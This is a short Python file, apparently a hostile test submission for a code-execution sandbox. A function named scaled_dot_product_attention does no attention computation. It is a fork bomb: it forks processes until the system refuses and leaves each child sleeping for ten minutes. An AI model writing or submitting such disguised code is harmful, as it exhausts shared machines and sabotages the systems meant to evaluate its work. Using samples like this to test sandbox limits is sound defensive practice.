"""A submission that forks until it cannot; every copy then sleeps."""

import os
import time


def scaled_dot_product_attention(query, key, value, mask=None, dropout_p=0.0):
    forked = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        forked += 1
    return forked, os.getuid()
